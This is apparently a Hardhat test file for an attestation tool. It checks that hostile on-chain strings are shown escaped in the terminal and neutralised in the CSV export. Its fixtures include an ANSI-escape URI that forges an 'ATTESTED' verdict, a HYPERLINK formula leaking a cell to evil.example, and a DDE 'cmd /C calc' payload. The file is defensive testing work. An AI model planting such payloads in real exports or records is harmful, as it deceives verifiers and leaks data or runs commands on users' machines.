/**
 * Issue 9, finding 5 ("clients trust what they print"), through the real tasks
 * on a real `hardhat node`: on-chain strings written by a hostile key (ANSI
 * escapes, carriage returns, formulas) cannot change what the terminal says or
 * run in a spreadsheet, and attesters and revokers that lost their role since
 * are marked "former signer" / "former office" in verify-document, the project
 * timeline and the export.
 */
import { expect } from "chai";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import type { HardhatRuntimeEnvironment } from "hardhat/types/hre";
import { sha256Sync } from "@pilot/sdk/hashing";
import { deploymentPath } from "../../scripts/deploy/deployment-record.js";
import { startHardhatNode, type LocalNode } from "../../scripts/node/hardhat-node.js";
import { rpcCall } from "../../scripts/node/rpc.js";
import { cliRuntime, ROOT, runTask, uidFrom, type Run } from "./helpers/cli.js";
import { deploySuite } from "./helpers/deploy-suite.js";

const CHAIN_ID = 40_000 + Math.floor(Math.random() * 20_000);
/** Any C0 control but LF, DEL, any C1 control (0x9b: one-byte CSI), a bidi override. */
// eslint-disable-next-line no-control-regex -- matching control characters is this pattern's purpose
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
/** The review's URI: moves the cursor up over the verdict, erases it and writes a false one. */
const ANSI_URI = "ipfs://doc\u001b[4A\r\u001b[2KATTESTED: 1 valid attestation(s)\u001b[4B\u009b0m";
const FORMULA_URI = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';

describe("finding 5: clients trust what they print (terminal tool)", function () {
  this.timeout(180_000);
  let node: LocalNode;
  let hre: HardhatRuntimeEnvironment;
  let dir: string;
  let accounts: string[];
  const ADMIN = 0,
    ZONE_ADMIN = 1,
    REGULATOR = 2,
    SIGNER = 4,
    SIGNER2 = 5;
  const from = (i: number) => String(i);
  let doc: { file: string; hash: string };
  let first: string;
  let second: string;

  async function ok(id: string, args: Record<string, unknown> = {}): Promise<Run> {
    const r = await runTask(hre, id, args);
    expect(r.code, `${id} failed: ${r.stderr}`).to.equal(0);
    return r;
  }

  before(async () => {
    dir = await mkdtemp(path.join(tmpdir(), "pilot-hostile-"));
    node = await startHardhatNode({ chainId: CHAIN_ID });
    process.env.PILOT_RPC_URL = node.url;
    hre = await cliRuntime("rpc");
    accounts = await rpcCall<string[]>(node.url, "eth_accounts");
    const connection = await hre.network.create();
    await deploySuite(connection, { deploymentId: `hostile-test-${CHAIN_ID}`, ignitionDir: path.join(ROOT, "ignition") });
    await connection.close();
    await ok("create-zone", { name: "Chengdu", region: "Sichuan" });
    await ok("appoint-zone-admin", { zone: "Chengdu", account: accounts[ZONE_ADMIN] });
    await ok("set-regulator", { account: accounts[REGULATOR], fields: "health" });
    await ok("register-entity", {
      zone: "chengdu",
      name: "West China Hospital",
      type: "hospital",
      fields: "health",
      signers: `${accounts[SIGNER]},${accounts[SIGNER2]}`,
      from: from(ZONE_ADMIN),
    });
    await ok("propose-project", { field: "health", title: "Records\u001b[31m pilot", from: from(SIGNER) });
    await ok("set-project-status", { project: "1", action: "approve", from: from(ZONE_ADMIN) });
    // one document attested twice, both revoked: once by its attester, once by a regulator
    const content = "hostile report\n";
    doc = { file: path.join(dir, "report.txt"), hash: sha256Sync(content) };
    await writeFile(doc.file, content);
    first = uidFrom(await ok("attest", { project: "1", kind: "progress-report", file: doc.file, uri: ANSI_URI, from: from(SIGNER) }));
    second = uidFrom(await ok("attest", { project: "1", kind: "milestone", file: doc.file, uri: FORMULA_URI, from: from(SIGNER2) }));
    await ok("revoke", { uid: first, reason: "@SUM(1+1)*cmd|' /C calc'!A0", from: from(SIGNER) });
    await ok("revoke", { uid: second, reason: "wrong\r\u001b[2Kfigures", from: from(REGULATOR) });
  });

  after(async () => {
    await node?.stop();
    await rm(deploymentPath(CHAIN_ID), { force: true });
    await rm(dir, { recursive: true, force: true });
  });

  it('finding 5: a URI with ANSI escapes cannot make verify-document of a twice-revoked document read as "ATTESTED: 1 valid"', async () => {
    const r = await runTask(hre, "verify-document", { file: doc.file, json: false });
    expect(r.code).to.equal(1);
    expect(r.stdout).to.not.match(CONTROL);
    expect(r.stderr).to.not.match(CONTROL);
    const lines = r.stdout.trimEnd().split("\n");
    expect(lines[1]).to.equal("NOT VALID: all 2 attestation(s) of this document are revoked");
    expect(lines.filter((l) => /^\s*ATTESTED/.test(l))).to.deep.equal([]);
    // the URI is shown, its escapes visible rather than acted on
    expect(r.stdout).to.include("uri ipfs://doc\\x1b[4A\\r\\x1b[2KATTESTED: 1 valid attestation(s)\\x1b[4B\\x9b0m");
    expect(r.stdout).to.include('project #1 "Records\\x1b[31m pilot"');
    expect(r.stdout).to.include("wrong\\r\\x1b[2Kfigures");
    // the JSON output keeps the exact strings (escaped the JSON way) and prints no control character either
    const j = await runTask(hre, "verify-document", { file: doc.file, json: true });
    expect(j.stdout).to.not.match(CONTROL);
    const report = JSON.parse(j.stdout) as { valid: boolean; attestations: { uri: string }[] };
    expect(report.valid).to.equal(false);
    expect(report.attestations.map((a) => a.uri)).to.deep.equal([ANSI_URI, FORMULA_URI]);
  });

  it("finding 5: the project timeline and the entity table print no control character", async () => {
    const p = await ok("project", { id: "1", json: false });
    expect(p.stdout).to.not.match(CONTROL);
    expect(p.stdout).to.include("Records\\x1b[31m pilot");
    const e = await ok("entities", { json: false });
    expect(e.stdout).to.not.match(CONTROL);
  });

  it("finding 5: a signer removed and a regulator dismissed since are marked former signer / former office", async () => {
    const before = JSON.parse((await runTask(hre, "verify-document", { file: doc.file, json: true })).stdout) as {
      attestations: { attesterStanding: string; revokedByStanding: string }[];
    };
    expect(before.attestations.map((a) => [a.attesterStanding, a.revokedByStanding])).to.deep.equal([
      ["", ""],
      ["", ""],
    ]);

    await ok("remove-signer", { entity: "1", account: accounts[SIGNER], from: from(ZONE_ADMIN) });
    await ok("set-regulator", { account: accounts[REGULATOR], fields: "none", from: from(ADMIN) });

    const v = await runTask(hre, "verify-document", { file: doc.file, json: false });
    expect(v.stdout).to.match(new RegExp(`by ${accounts[SIGNER]}, signer of entity #1 "West China Hospital" \\(former signer\\)`, "i"));
    expect(v.stdout).to.match(new RegExp(`by ${accounts[SIGNER2]}, signer of entity #1 "West China Hospital"$`, "im"));
    expect(v.stdout).to.match(new RegExp(`revoked by ${accounts[SIGNER]} \\(former signer\\): @SUM`, "i"));
    expect(v.stdout).to.match(new RegExp(`revoked by ${accounts[REGULATOR]} \\(former office\\): wrong`, "i"));

    const timeline = JSON.parse((await ok("project", { id: "1", json: true })).stdout) as {
      timeline: { type: string; uid?: string; attesterStanding?: string; revokedByStanding?: string }[];
    };
    const items = timeline.timeline.filter((t) => t.type === "attestation");
    expect(items.map((t) => [t.uid, t.attesterStanding, t.revokedByStanding])).to.deep.equal([
      [first, "former signer", "former signer"],
      [second, "", "former office"],
    ]);
    expect((await ok("project", { id: "1", json: false })).stdout).to.match(/REVOKED by 0x[0-9a-fA-F]{40} \(former office\): wrong/);
  });

  it("finding 5: the CSV export neutralises formulas and carries the attester's and revoker's standing", async () => {
    const out = path.join(dir, "export");
    await ok("export", { out, blockRange: "50", quiet: true });
    const csv = (await readFile(path.join(out, "attestations.csv"), "utf8")).split("\r\n");
    const header = csv[0].split(",");
    expect(header.slice(-2)).to.deep.equal(["attesterStanding", "revokedByStanding"]);
    const rowOf = (uid: string) => csv.find((l) => l.startsWith(uid)) as string;
    // the formula URI: quoted (it holds quotes and commas) and behind a single quote
    expect(rowOf(second)).to.include(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")",`);
    expect(rowOf(first)).to.include(",'@SUM(1+1)*cmd|' /C calc'!A0,");
    expect(rowOf(first).endsWith(",former signer,former signer")).to.equal(true);
    expect(rowOf(second).endsWith(",,former office")).to.equal(true);
    // no cell of any row starts a formula
    for (const line of csv.slice(1).filter(Boolean)) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? []) expect(cell.replace(/^"/, "")).to.not.match(/^[=+\-@\t\r]/);
    }
    const json = JSON.parse(await readFile(path.join(out, "attestations.json"), "utf8")) as { attestations: { uid: string; uri: string }[] };
    expect(json.attestations.find((a) => a.uid === second)?.uri).to.equal(FORMULA_URI);
  });
});
